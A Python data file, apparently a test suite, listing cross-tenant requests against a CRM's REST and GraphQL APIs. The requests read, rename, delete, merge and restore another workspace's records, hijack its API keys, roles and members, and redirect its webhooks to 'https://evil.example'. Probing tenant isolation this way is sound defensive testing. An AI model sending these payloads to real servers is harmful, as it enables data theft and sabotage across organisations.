"""Requests of one workspace's Admin that name things of another: `{company}` is the victim's, `{mycompany}` his own."""

from typing import Any

BY_ID = [
    ("GET", "/rest/companies/{company}", None),
    ("GET", "/rest/companies/{company}?depth=1", None),
    ("GET", "/rest/companies/{company}/name", None),
    ("PATCH", "/rest/companies/{company}", {"name": "stolen"}),
    ("PUT", "/rest/companies/{company}", {"name": "stolen"}),
    ("PATCH", "/rest/companies/{company}/name", {"name": "stolen"}),
    ("PATCH", "/rest/batch/companies", [{"id": "{company}", "name": "stolen"}]),
    ("PATCH", "/rest/batch/companies", [{"id": "{mycompany}", "name": "x"}, {"id": "{company}", "name": "stolen"}]),
    ("DELETE", "/rest/companies/{company}", None),
    ("DELETE", "/rest/companies/{company}?soft_delete=true", None),
    ("DELETE", "/rest/batch/companies", {"ids": ["{company}"]}),
    ("DELETE", "/rest/batch/companies", {"ids": ["{mycompany}", "{company}"]}),
    ("PATCH", "/rest/restore/companies/{binned}", None),
    ("PATCH", "/rest/companies/{binned}/restore", None),
]
BY_FILTER = [
    ("GET", "/rest/companies?filter=id[eq]:{company}", None),
    ("GET", '/rest/companies?filter=id[in]:["{company}"]', None),
    ("GET", "/rest/companies?filter=name[like]:%25{marker}%25", None),
    ("GET", "/rest/people?filter=companyId[eq]:{company}", None),
    ("GET", "/rest/people?filter=company.name[like]:%25{marker}%25", None),
    ("GET", "/rest/companies?filter=people.id[eq]:{person}", None),
    ("GET", "/rest/companies?viewId={view}", None),
    ("GET", '/rest/companies/groupBy?group_by=[{"name":true}]&viewId={view}', None),
    ("GET", '/rest/companies/groupBy?group_by=[{"name":true}]&filter=id[eq]:{company}', None),
    ("POST", "/rest/companies/duplicates", {"ids": ["{company}"]}),
    ("POST", "/rest/companies/duplicates", {"data": [{"domainName": {"primaryLinkUrl": "https://{domain}"}}]}),
    ("PATCH", "/rest/companies?filter=id[eq]:{company}", {"name": "stolen"}),
    ("DELETE", "/rest/companies?filter=id[eq]:{company}", None),
    ("DELETE", "/rest/companies?filter=id[eq]:{company}&soft_delete=true", None),
    ("PATCH", "/rest/restore/companies?filter=id[eq]:{binned}", None),
    ("PATCH", "/rest/companies/restore?filter=id[eq]:{binned}", None),
]
LINKS = [
    ("POST", "/rest/people", {"companyId": "{company}"}),
    ("POST", "/rest/batch/people", [{"companyId": "{mycompany}"}, {"companyId": "{company}"}]),
    ("PATCH", "/rest/people/{myperson}", {"companyId": "{company}"}),
    ("PATCH", "/rest/people/{myperson}/companyId", {"companyId": "{company}"}),
    ("PATCH", "/rest/people?filter=id[eq]:{myperson}", {"companyId": "{company}"}),
    ("PATCH", "/rest/companies/{mycompany}", {"accountOwnerId": "{member}"}),
    ("POST", "/rest/people", {"company": {"connect": {"where": {"id": "{company}"}}}}),
    (
        "POST",
        "/rest/people",
        {"company": {"connect": {"where": {"domainName": {"primaryLinkUrl": "https://{domain}"}}}}},
    ),
    ("PATCH", "/rest/companies/merge", {"ids": ["{mycompany}", "{company}"], "conflictPriorityIndex": 0}),
    (
        "PATCH",
        "/rest/companies/merge",
        {"ids": ["{company}", "{mycompany}"], "conflictPriorityIndex": 0, "dryRun": True},
    ),
]
MODEL = [
    *[
        (method, f"/rest/metadata/{kind}/{{{one}}}", body)
        for kind, one, body in [
            ("objects", "object", {"labelSingular": "Stolen"}),
            ("fields", "field", {"label": "Stolen"}),
            ("objects/{object}/fields", "field", {"label": "Stolen"}),
            ("objects/company/fields", "field", {"label": "Stolen"}),
            ("views", "view", {"name": "stolen"}),
            ("viewFields", "viewField", {"size": 1}),
            ("viewSorts", "viewSort", {"direction": "DESC"}),
            ("viewFilters", "viewFilter", {"value": "x"}),
            ("viewFilterGroups", "viewFilterGroup", {"logicalOperator": "OR"}),
            ("viewGroups", "viewGroup", {"position": 4}),
        ]
        for method, body in (("GET", None), ("PATCH", body), ("PUT", body), ("DELETE", None))
    ],
    ("GET", "/rest/metadata/indexes/{index}", None),
    ("DELETE", "/rest/metadata/indexes/{index}", None),
    ("GET", "/rest/metadata/relations/{relation}", None),
    ("DELETE", "/rest/metadata/relations/{relation}", None),
    ("GET", "/rest/metadata/objects/{object}/fields", None),
    ("POST", "/rest/metadata/objects/{object}/fields", {"type": "TEXT", "name": "spy", "label": "Spy"}),
    ("POST", "/rest/metadata/fields", {"objectMetadataId": "{object}", "type": "TEXT", "name": "spy", "label": "Spy"}),
    ("POST", "/rest/metadata/indexes", {"objectMetadataId": "{object}", "fields": [{"fieldMetadataId": "name"}]}),
    ("POST", "/rest/metadata/indexes", {"objectMetadataId": "{myobject}", "fields": [{"fieldMetadataId": "{field}"}]}),
    (
        "POST",
        "/rest/metadata/relations",
        {
            "objectMetadataId": "{myobject}",
            "targetObjectMetadataId": "{object}",
            "type": "MANY_TO_ONE",
            "name": "spied",
            "label": "Spied",
            "targetFieldLabel": "Spies",
        },
    ),
    ("PATCH", "/rest/metadata/objects/{myobject}", {"labelIdentifierFieldMetadataId": "{field}"}),
    ("POST", "/rest/metadata/views", {"name": "spy", "objectMetadataId": "{object}", "icon": "x"}),
    ("POST", "/rest/metadata/viewFields", {"viewId": "{view}", "fieldMetadataId": "{myfield}"}),
    ("POST", "/rest/metadata/viewFields", {"viewId": "{myview}", "fieldMetadataId": "{field}"}),
    ("POST", "/rest/metadata/viewSorts", {"viewId": "{myview}", "fieldMetadataId": "{field}"}),
    ("POST", "/rest/metadata/viewFilterGroups", {"viewId": "{view}"}),
    (
        "POST",
        "/rest/metadata/viewFilterGroups",
        {"viewId": "{myview}", "parentViewFilterGroupId": "{viewFilterGroup}"},
    ),
    ("GET", "/rest/metadata/views?objectMetadataId={object}", None),
    ("GET", "/rest/metadata/viewFields?viewId={view}", None),
]
ACCESS = [
    ("GET", "/rest/metadata/apiKeys/{key}", None),
    ("PATCH", "/rest/metadata/apiKeys/{key}", {"name": "stolen"}),
    ("PUT", "/rest/metadata/apiKeys/{key}", {"name": "stolen"}),
    ("DELETE", "/rest/metadata/apiKeys/{key}", None),
    ("POST", "/rest/metadata/apiKeys/{key}/token", {}),
    ("DELETE", "/rest/metadata/apiKeys/{key}/tokens/1", None),
    ("POST", "/rest/metadata/apiKeys", {"name": "spy", "expiresAt": "2030-01-01", "roleId": "{role}"}),
    ("PATCH", "/rest/metadata/apiKeys/{mykey}", {"roleId": "{role}"}),
    ("GET", "/rest/metadata/roles/{role}", None),
    ("PATCH", "/rest/metadata/workspace", {"defaultRoleId": "{role}"}),
    ("GET", "/rest/metadata/webhooks/{webhook}", None),
    ("PATCH", "/rest/metadata/webhooks/{webhook}", {"targetUrl": "https://evil.example"}),
    ("PUT", "/rest/metadata/webhooks/{webhook}", {"targetUrl": "https://evil.example"}),
    ("DELETE", "/rest/metadata/webhooks/{webhook}", None),
    ("GET", "/rest/metadata/webhooks/{webhook}/deliveries", None),
    ("GET", "/rest/metadata/webhooks/{webhook}/deliveries/{delivery}", None),
    ("POST", "/rest/metadata/webhooks/{webhook}/deliveries/{delivery}/resend", {}),
    ("POST", "/rest/metadata/webhooks/{webhook}/deliveries/resend", {}),
    ("GET", "/rest/metadata/webhooks/{mywebhook}/deliveries/{delivery}", None),
    ("POST", "/rest/metadata/webhooks/{mywebhook}/deliveries/{delivery}/resend", {}),
    ("GET", "/rest/metadata/webhooks/{mywebhook}/deliveries?starting_after={delivery}", None),
]
REST: list[tuple[Any, ...]] = [*BY_ID, *BY_FILTER, *LINKS, *MODEL, *ACCESS]
LISTS = [
    f"/rest/metadata/{kind}?limit=200"
    for kind in ("objects", "fields", "indexes", "relations", "views", "viewFields", "viewFilters", "viewSorts")
] + [
    f"/rest/metadata/{kind}" for kind in ("viewGroups", "viewFilterGroups", "apiKeys", "roles", "webhooks", "auditLog")
]

CORE = [
    '{ company(filter: {id: {eq: "{company}"}}) { name } }',
    '{ companies(filter: {id: {in: ["{company}"]}}) { edges { node { name } } totalCount } }',
    '{ companies(filter: {name: {like: "%{marker}%"}}) { edges { node { people { edges { node { id } } } } } } }',
    '{ people(filter: {companyId: {eq: "{company}"}}) { edges { node { id } } } }',
    '{ people(filter: {company: {name: {like: "%{marker}%"}}}) { edges { node { id } } } }',
    '{ companiesGroupBy(groupBy: [{name: true}], viewId: "{view}") { groupByDimensionValues totalCount } }',
    '{ companiesGroupBy(groupBy: [{name: true}], filter: {name: {like: "%{marker}%"}}) { totalCount } }',
    '{ companyDuplicates(ids: ["{company}"]) { totalCount } }',
    '{ companyDuplicates(data: [{domainName: {primaryLinkUrl: "https://{domain}"}}]) { edges { node { id } } } }',
    '{ search(searchInput: "{marker}", limit: 10) { edges { node { recordId label } } } }',
    'mutation { updateCompany(id: "{company}", data: {name: "stolen"}) { name } }',
    'mutation { updateCompanies(filter: {id: {in: ["{company}"]}}, data: {name: "stolen"}) { name } }',
    'mutation { deleteCompany(id: "{company}") { name } }',
    'mutation { deleteCompanies(filter: {id: {in: ["{company}"]}}) { name } }',
    'mutation { destroyCompany(id: "{company}") { name } }',
    'mutation { destroyCompanies(filter: {id: {in: ["{company}"]}}) { name } }',
    'mutation { restoreCompany(id: "{binned}") { name } }',
    'mutation { restoreCompanies(filter: {id: {in: ["{binned}"]}}) { name } }',
    'mutation { createPerson(data: {companyId: "{company}"}) { id company { name } } }',
    'mutation { createPeople(data: [{companyId: "{mycompany}"}, {companyId: "{company}"}]) { id } }',
    'mutation { updatePerson(id: "{myperson}", data: {companyId: "{company}"}) { company { name } } }',
    'mutation { updateCompany(id: "{mycompany}", data: {accountOwnerId: "{member}"}) { id } }',
    'mutation { createPerson(data: {company: {connect: {where: {id: "{company}"}}}}) { id } }',
    "mutation { createPerson(data: {company: {connect: {where: {domainName: {primaryLinkUrl: "
    '"https://{domain}"}}}}}) { id } }',
    'mutation { mergeCompanies(ids: ["{mycompany}", "{company}"], conflictPriorityIndex: 0) { name } }',
    'mutation { mergeCompanies(ids: ["{company}", "{mycompany}"], conflictPriorityIndex: 0, dryRun: true) { name } }',
]
METADATA = [
    '{ object(id: "{object}") { nameSingular } }',
    '{ field(id: "{field}") { name } }',
    '{ index(id: "{index}") { name } }',
    '{ objects(filter: {id: {eq: "{object}"}}) { edges { node { id } } } }',
    '{ fields(filter: {id: {eq: "{field}"}}) { edges { node { id } } } }',
    'mutation { updateOneObject(input: {id: "{object}", update: {labelSingular: "Stolen"}}) { id } }',
    'mutation { deleteOneObject(input: {id: "{object}"}) { id } }',
    'mutation { updateOneField(input: {id: "{field}", update: {label: "Stolen"}}) { id } }',
    'mutation { deleteOneField(input: {id: "{field}"}) { id } }',
    'mutation { createOneField(input: {field: {objectMetadataId: "{object}", type: TEXT, name: "spy", '
    'label: "S"}}) { id } }',
    'mutation { deleteOneIndex(input: {id: "{index}"}) { id } }',
    '{ getView(id: "{view}") { name } }',
    '{ getViews(objectMetadataId: "{object}") { name } }',
    '{ getViewFields(viewId: "{view}") { id } }',
    '{ getViewFilters(viewId: "{view}") { value } }',
    'mutation { updateView(id: "{view}", input: {name: "stolen"}) { id } }',
    'mutation { deleteView(id: "{view}") }',
    'mutation { destroyView(id: "{view}") }',
    'mutation { createView(input: {name: "spy", objectMetadataId: "{object}", icon: "x"}) { id } }',
    'mutation { createViewField(input: {viewId: "{view}", fieldMetadataId: "{myfield}"}) { id } }',
    'mutation { createViewField(input: {viewId: "{myview}", fieldMetadataId: "{field}"}) { id } }',
    'mutation { updateViewField(input: {id: "{viewField}", update: {size: 9}}) { id } }',
    'mutation { deleteViewField(input: {id: "{viewField}"}) { id } }',
    'mutation { destroyViewField(input: {id: "{viewField}"}) { id } }',
    'mutation { updateViewFilter(input: {id: "{viewFilter}", update: {value: "x"}}) { id } }',
    'mutation { updateViewSort(input: {id: "{viewSort}", update: {direction: DESC}}) { id } }',
    'mutation { updateViewGroup(input: {id: "{viewGroup}", update: {position: 9}}) { id } }',
    '{ apiKey(input: {id: "{key}"}) { name } }',
    'mutation { updateApiKey(input: {id: "{key}", name: "stolen"}) { id } }',
    'mutation { revokeApiKey(input: {id: "{key}"}) { id } }',
    'mutation { generateApiKeyToken(apiKeyId: "{key}", expiresAt: "2029-01-01") { token } }',
    'mutation { endApiKeyToken(apiKeyId: "{key}", tokenNumber: 1) { id } }',
    'mutation { assignRoleToApiKey(apiKeyId: "{key}", roleId: "{myrole}") }',
    'mutation { assignRoleToApiKey(apiKeyId: "{mykey}", roleId: "{role}") }',
    'mutation { createApiKey(input: {name: "spy", expiresAt: "2030-01-01", roleId: "{role}"}) { id } }',
    'mutation { updateOneRole(updateRoleInput: {id: "{role}", update: {label: "stolen"}}) { id } }',
    'mutation { deleteOneRole(roleId: "{role}") }',
    'mutation { upsertObjectPermissions(upsertObjectPermissionsInput: {roleId: "{role}", '
    "objectPermissions: []}) { roleId: objectMetadataId } }",
    'mutation { upsertObjectPermissions(upsertObjectPermissionsInput: {roleId: "{myrole}", '
    'objectPermissions: [{objectMetadataId: "{object}", canReadObjectRecords: true}]}) { '
    "objectMetadataId } }",
    'mutation { upsertFieldPermissions(upsertFieldPermissionsInput: {roleId: "{myrole}", '
    'fieldPermissions: [{objectMetadataId: "{object}", fieldMetadataId: "{field}", canReadFieldValue: '
    "false}]}) { id } }",
    'mutation { upsertPermissionFlags(upsertPermissionFlagsInput: {roleId: "{role}", permissionFlagKeys: '
    '["ROLES"]}) { id } }',
    'mutation { updateWorkspaceMemberRole(workspaceMemberId: "{member}", roleId: "{myrole}") { id } }',
    'mutation { updateWorkspaceMemberRole(workspaceMemberId: "{mymember}", roleId: "{role}") { id } }',
    'mutation { removeWorkspaceMember(workspaceMemberId: "{member}") { id } }',
    'mutation { updateWorkspace(data: {defaultRoleId: "{role}"}) { id } }',
    '{ webhook(id: "{webhook}") { targetUrl } }',
    'mutation { updateWebhook(input: {id: "{webhook}", update: {targetUrl: "https://evil.example"}}) { id } }',
    'mutation { deleteWebhook(id: "{webhook}") { id } }',
    '{ webhookDeliveries(input: {webhookId: "{webhook}"}) { id } }',
    'mutation { resendWebhookDelivery(webhookId: "{webhook}", id: "{delivery}") { id } }',
    'mutation { resendWebhookDelivery(webhookId: "{mywebhook}", id: "{delivery}") { id } }',
    'mutation { resendWebhookDeliveries(input: {webhookId: "{webhook}"}) }',
]
GRAPHQL = [("/graphql", one) for one in CORE] + [("/metadata", one) for one in METADATA]
NEW_HOOK = '{id: "{webhook}", targetUrl: "https://evil.example", operations: []}'
TAKEN: list[tuple[Any, ...]] = [
    ("POST", "/rest/metadata/webhooks", {"id": "{webhook}", "targetUrl": "https://evil.example"}),
    ("PATCH", "/rest/metadata/workspace", {"subdomain": "victim"}),
    ("POST", "/metadata", {"query": f"mutation {{ createWebhook(input: {NEW_HOOK}) {{ id }} }}"}),
    ("POST", "/metadata", {"query": 'mutation { createOneRole(createRoleInput: {id: "{role}", label: "x"}) { id } }'}),
]
"""Ids and names that are one's own on the whole server: told as taken, whoever has them."""
CURSORS: list[tuple[Any, ...]] = [
    ("GET", "/rest/companies?starting_after={cursor}&depth=1", None),
    ("GET", "/rest/companies?ending_before={cursor}", None),
    ("POST", "/graphql", {"query": '{ companies(after: "{cursor}") { edges { node { name } } } }'}),
    ("POST", "/graphql", {"query": '{ companies(last: 5, before: "{cursor}") { edges { node { name } } } }'}),
]
"""A cursor is a place in an order, and anybody may make one up."""
